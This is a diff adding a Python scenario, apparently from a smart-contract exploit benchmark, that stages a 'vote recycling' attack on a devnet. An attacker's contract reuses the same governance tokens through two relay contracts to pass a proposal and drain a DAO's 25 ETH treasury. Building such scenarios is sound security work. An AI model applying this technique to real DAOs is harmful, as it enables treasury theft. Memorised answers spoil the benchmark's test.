@@ -1,0 +1,80 @@
+"""Scenario `gen-vote-recycling` (solc 0.7.6): a DAO whose votes weigh live balances.
+
+TreasuryDao pays ether out once a proposal's votes exceed half the token supply, and a vote
+weighs the voter's balance at the time of voting (no snapshot, no lock). Holders pass a grant
+honestly first. Mallory holds 20% of the supply: her VoteRecycler proposes paying her the whole
+treasury, votes, hands the tokens to two BallotRelays in turn (each votes and passes them on),
+reaches 60% with the same tokens and executes, in one transaction.
+"""
+
+from __future__ import annotations
+
+from timemachine.catalog.builder import ETHER
+from timemachine.catalog.devnet import actor_address
+from timemachine.catalog.exploit import mine_exploit
+from timemachine.catalog.models import ScenarioRecord
+from timemachine.catalog.scenarios.base import Scenario
+from timemachine.catalog.scenarios.generalization.kit import ATTACKER, deploy_own
+from timemachine.catalog.scenarios.world import World
+
+GOV = 10**18
+HOLDINGS = {"alice": 300, "bob": 300, ATTACKER: 200, "deployer": 200}
+TREASURY = {"carol": 10, "dave": 12, "heidi": 8}
+GRANT = 5 * ETHER
+
+
+async def stage(world: World) -> ScenarioRecord:
+    chain, a = world.chain, actor_address
+    token = await deploy_own(chain, "deployer", "GenToken", "Governance", "GOV", name="GOV")
+    await chain.mine()
+    dao = await deploy_own(chain, "deployer", "TreasuryDao", token.address)
+    for holder, amount in HOLDINGS.items():
+        await token.send("deployer", "mint", a(holder), amount * GOV)
+    recycler = await deploy_own(chain, ATTACKER, "VoteRecycler")
+    relays = [
+        await deploy_own(chain, ATTACKER, "BallotRelay", name=f"BallotRelay {n}") for n in (1, 2)
+    ]
+    await chain.mine()
+    for donor, amount in TREASURY.items():
+        await chain.send(donor, dao.address, value=amount * ETHER, what=f"{donor} funds the DAO")
+    await dao.send("alice", "propose", a("grace"), GRANT)
+    await chain.mine()
+    for voter in ("alice", "bob"):
+        await dao.send(voter, "vote", 0)
+    await token.send(ATTACKER, "transfer", recycler.address, HOLDINGS[ATTACKER] * GOV)
+    await chain.mine()
+    await dao.send("grace", "execute", 0)
+    await chain.mine()
+
+    relay_addresses = [relay.address for relay in relays]
+    drain = await mine_exploit(
+        chain,
+        lambda: recycler.send(ATTACKER, "attack", dao.address, relay_addresses, gas=800_000),
+        victim=dao.address,
+        attacker=a(ATTACKER),
+        held=sum(TREASURY.values()) * ETHER - GRANT,
+        left=0,
+        what="vote recycling",
+    )
+    return SCENARIO.exploited(
+        drain,
+        attacker=a(ATTACKER),
+        contracts=[recycler.address, *relay_addresses],
+        victims=[dao.address],
+    )
+
+
+SCENARIO = Scenario(
+    id="gen-vote-recycling",
+    title="TreasuryDao taken over by voting the same tokens from three addresses (solc 0.7.6)",
+    description=(
+        "TreasuryDao weighs each vote by the voter's live balance. Mallory's VoteRecycler, "
+        "holding 20% of GOV, proposes paying her the 25 ETH treasury, votes, and passes the "
+        "tokens through two BallotRelays that vote in turn: 60% with the same 200 GOV; the "
+        "proposal executes in the same transaction."
+    ),
+    vulnerability_class="governance_takeover",
+    stage=stage,
+    severity="critical",
+    loss_text="the whole DAO treasury (25 ETH)",
+)
